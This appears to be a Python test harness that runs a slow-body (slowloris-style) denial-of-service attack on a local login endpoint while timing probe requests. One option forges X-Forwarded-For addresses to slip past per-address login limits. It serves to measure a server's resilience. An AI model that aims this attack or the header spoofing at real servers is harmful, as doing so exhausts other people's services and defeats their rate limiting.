"""
The slow-body attack, and probes that time the server while it runs.

Each attacker sends a POST's headers, then its body a byte a second, holding
its connection for as long as the attack lasts; then it stops sending and
waits for the server to close on it, as nginx's client_body_timeout does and
bin/serve (granian) never does. Meanwhile probes GET the paths and time them.
"""

import socket
import ssl
import statistics
import threading
import time
from dataclasses import dataclass


@dataclass(frozen=True)
class Target:
    """Where the attack and the probes go: plain HTTP, or HTTPS (any certificate)."""

    port: int
    tls: bool = False
    host: str = "127.0.0.1"

    def connect(self, timeout: float) -> socket.socket:
        sock = socket.create_connection((self.host, self.port), timeout=timeout)
        if not self.tls:
            return sock
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        return context.wrap_socket(sock, server_hostname=self.host)


@dataclass
class Attacker:
    """One connection's story: bytes of body sent, and how it ended."""

    connected: bool = False
    sent: int = 0
    # Cut while still sending, before the attack stopped.
    cut_early: bool = False
    # Seconds from its last byte to the server's closing it, and the status
    # line it sent first, if any; None when still open at the end of the wait.
    closed_after: float | None = None
    answer: str = ""


def slow_body(
    target: Target,
    attacker: Attacker,
    stop: threading.Event,
    wait: float,
    forwarded_for: str | None = None,
) -> None:
    """Send a login's body a byte a second until stop; then wait for the close."""
    # As a proxy would pass it on: a production backend answers a request it
    # sees as plain HTTP with a redirect, body unread.
    head = [
        "POST /api/auth/token/ HTTP/1.1",
        f"Host: 127.0.0.1:{target.port}",
        "X-Forwarded-Proto: https",
        "Content-Type: application/json",
        "Content-Length: 4096",
    ]
    if forwarded_for is not None:
        head.append(f"X-Forwarded-For: {forwarded_for}")
    try:
        with target.connect(timeout=5) as sock:
            attacker.connected = True
            sock.sendall("\r\n".join([*head, "", ""]).encode())
            last_byte = time.monotonic()
            while not stop.wait(1.0):
                sock.sendall(b" ")
                last_byte = time.monotonic()
                attacker.sent += 1
            sock.settimeout(wait)
            try:
                received = b""
                while chunk := sock.recv(4096):
                    received += chunk
                attacker.answer = received.split(b"\r\n", 1)[0].decode(errors="replace")
                attacker.closed_after = time.monotonic() - last_byte
            except TimeoutError:
                pass  # Still open: the server waits for the body.
            except OSError:
                attacker.closed_after = time.monotonic() - last_byte
    except OSError:
        attacker.cut_early = attacker.connected


@dataclass(frozen=True)
class Probe:
    path: str
    seconds: float
    status: int | None


def probe(target: Target, path: str, headers: dict[str, str], timeout: float) -> Probe:
    """GET path on a new connection; None for the status if no answer in timeout."""
    started = time.monotonic()
    status: int | None = None
    try:
        with target.connect(timeout=timeout) as sock:
            lines = [f"GET {path} HTTP/1.1", f"Host: 127.0.0.1:{target.port}"]
            lines += [f"{name}: {value}" for name, value in headers.items()]
            sock.sendall(("\r\n".join([*lines, "Connection: close", "", ""])).encode())
            head = sock.recv(4096)
            if head.startswith(b"HTTP/1.1 "):
                status = int(head.split()[1])
    except OSError:
        pass
    return Probe(path, time.monotonic() - started, status)


def forged(n: int) -> str:
    """Return the nth of 65,024 addresses in 198.18.0.0/16, a benchmarking range."""
    return f"198.18.{n // 254 % 256}.{n % 254 + 1}"


def under_attack(
    target: Target,
    probes: list[tuple[str, dict[str, str]]],
    *,
    attackers: int,
    seconds: float,
    probe_timeout: float,
    close_wait: float,
    forged_addresses: bool = False,
) -> tuple[list[Probe], list[Attacker]]:
    """
    Return the probes taken while attackers slow bodies go to target, for
    seconds, and each attacker's story, close_wait after they stopped sending.

    With forged_addresses, each attacker claims a client address of its own in
    X-Forwarded-For, as anyone who reaches a backend that trusts one proxy hop
    (DJANGO_NUM_PROXIES=1) can: no per-address login limit then refuses any of
    them before its body is read, whatever that address spent earlier.
    """
    stop = threading.Event()
    stories = [Attacker() for _ in range(attackers)]
    threads = [
        threading.Thread(
            target=slow_body,
            args=(target, story, stop, close_wait),
            kwargs={"forwarded_for": forged(n) if forged_addresses else None},
        )
        for n, story in enumerate(stories)
    ]
    for thread in threads:
        thread.start()
    time.sleep(2)  # Every connection is open and sending.
    taken: list[Probe] = []
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            taken += [probe(target, path, h, probe_timeout) for path, h in probes]
            time.sleep(0.5)
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=close_wait + 10)
    return taken, stories


def latency(taken: list[Probe], path: str) -> dict[str, float | int]:
    """Return path's probes: how many, how many answered, p50 and max in ms."""
    mine = [p for p in taken if p.path == path]
    seconds = [p.seconds * 1000 for p in mine]
    return {
        "probes": len(mine),
        "answered": sum(1 for p in mine if p.status is not None),
        "p50_ms": round(statistics.median(seconds), 1),
        "max_ms": round(max(seconds), 1),
    }
